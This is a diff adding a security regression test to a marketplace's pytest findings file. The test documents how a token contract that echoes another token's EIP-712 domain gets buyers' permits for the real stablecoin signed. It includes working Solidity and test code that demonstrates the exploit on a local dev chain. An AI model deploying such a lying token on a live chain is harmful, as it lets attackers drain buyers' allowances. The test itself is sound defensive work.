@@ -17,25 +17,33 @@ the fan buys.
 - Finding 5: release uploads are outside NINETY_MAX_UNREGISTERED_BYTES.
 - Finding 6: deeply nested metadata (open registration) escapes the fetcher's error handling.
 - Finding 7: a fake release's sales count in its track's public `release_sales`.
+- Finding 8: a token that names another token's EIP-712 domain gets the buyer's permit for
+  that token signed, by the web app and by ninety.market.sign_permit.
 """
 from __future__ import annotations
 
 import io
 import json
 import os
+import subprocess
+from pathlib import Path
 
 import httpx
 import pytest
+import solcx
 from web3 import Web3
 
 from ninety.attest import CatalogSigner
+from ninety.cli.shared import dev_account
+from ninety.config import DEV_MNEMONIC
 from ninety.ipfs import Ipfs
-from ninety.market import ETH
+from ninety.market import ETH, sign_permit
 from tests.support.listings import FAN, MALLORY, VICTIM, list_upload, sync, wallet
 from tests.support.media import wav_bytes
 from tests.support.releases import register, release_form
 
 MILLI = 10**15
+REPO = Path(__file__).resolve().parents[2]
 PENNILESS = 15  # a dev-mnemonic wallet Anvil never funded
 
 
@@ -236,3 +244,75 @@ def test_deeply_nested_release_metadata_is_judged_invalid_and_blocks_nothing(api
     later, _ = list_upload(api, world, VICTIM, wav_bytes(2.0, 490.0), title="Honest")
     sync(api, world)  # now: RecursionError out of fetch_pending, the honest track's metadata never fetched
     assert api.get(f"/api/tracks/{later}").status_code == 200
+
+
+# An owner-allowed token that answers every view as another token does (here the dev
+# stablecoin): its eip712Domain(), DOMAIN_SEPARATOR() and nonces() are that token's.
+ECHO_TOKEN = """// SPDX-License-Identifier: MIT
+pragma solidity 0.8.28;
+contract EchoToken {
+    address private immutable real;
+    constructor(address r) { real = r; }
+    fallback(bytes calldata data) external returns (bytes memory) {
+        (bool ok, bytes memory out) = real.staticcall(data);
+        require(ok);
+        return out;
+    }
+}
+"""
+
+# web/purchase.js's permitDomain, run by Node against the chain (its DOM-free part; the
+# page's globals it touches at import are stubbed).
+PERMIT_DOMAIN_JS = """
+globalThis.document = { getElementById: () => null, addEventListener() {} };
+globalThis.window = { addEventListener() {}, dispatchEvent() {}, location: { hash: "" } };
+globalThis.localStorage = { getItem: () => null, setItem() {} };
+const [repo, rpc, token, account, chainId] = process.argv.slice(2);
+const { state } = await import(repo + "/web/state.js");
+const { permitDomain } = await import(repo + "/web/purchase.js");
+state.account = account;
+state.status = { chain_id: Number(chainId) };
+state.wallet = { request: async ({ method, params }) => {
+  const r = await fetch(rpc, { method: "POST", headers: { "content-type": "application/json" },
+    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }) });
+  const j = await r.json();
+  if (j.error) throw new Error(j.error.message);
+  return j.result;
+} };
+const d = await permitDomain(token);
+console.log(JSON.stringify(d, (k, v) => typeof v === "bigint" ? v.toString() : v));
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="finding 8: the web app (and ninety.market.sign_permit) sign a permit for "
+                                       "whatever domain the token names: a lying token gets a permit of real USDC")
+def test_a_token_naming_another_tokens_domain_gets_no_permit_signed(anvil, world, tmp_path):
+    std = solcx.compile_standard({"language": "Solidity", "sources": {"Echo.sol": {"content": ECHO_TOKEN}},
+                                  "settings": {"outputSelection": {"*": {"*": ["abi", "evm.bytecode.object"]}}}},
+                                 solc_version="0.8.28")
+    c = std["contracts"]["Echo.sol"]["EchoToken"]
+    art = {"abi": c["abi"], "bin": c["evm"]["bytecode"]["object"]}
+    w3, usdc, m = world.w3, world.usdc, world.market
+    tx = w3.eth.contract(abi=art["abi"], bytecode=art["bin"]).constructor(usdc.address).transact(
+        {"from": world.owner})
+    echo = w3.eth.wait_for_transaction_receipt(tx)["contractAddress"]
+    m.send(m.contract.functions.setTokenAllowed(echo, True), world.owner)  # the owner allowed it
+    buyer, key = dev_account(DEV_MNEMONIC, 8)
+    assert usdc.functions.allowance(buyer, m.address).call() == 0
+    script = tmp_path / "permit_domain.mjs"
+    script.write_text(PERMIT_DOMAIN_JS)
+    out = subprocess.run(["node", "--no-warnings", str(script), str(REPO), anvil.url, echo, buyer,
+                          str(w3.eth.chain_id)], capture_output=True, text=True, timeout=60, check=True)
+    domain = json.loads(out.stdout)
+    if domain is not None:
+        # The app would have the wallet sign a Permit under this domain: the real stablecoin's.
+        assert domain["domain"]["verifyingContract"].lower() == usdc.address.lower()
+        # The Python signer (the demo's, `Market.buy_with_permit`) signs the same: anyone
+        # submitting it to the real token gives the Marketplace the buyer's allowance there.
+        echo_c = w3.eth.contract(address=echo, abi=usdc.abi)
+        deadline = w3.eth.get_block("latest")["timestamp"] + 600
+        v, r, s = sign_permit(key, echo_c, buyer, m.address, 5_000_000, deadline)
+        sent = usdc.functions.permit(buyer, m.address, 5_000_000, deadline, v, r, s).transact({"from": world.owner})
+        assert w3.eth.wait_for_transaction_receipt(sent)["status"] == 1
+        assert usdc.functions.allowance(buyer, m.address).call() == 5_000_000
+    assert domain is None, domain
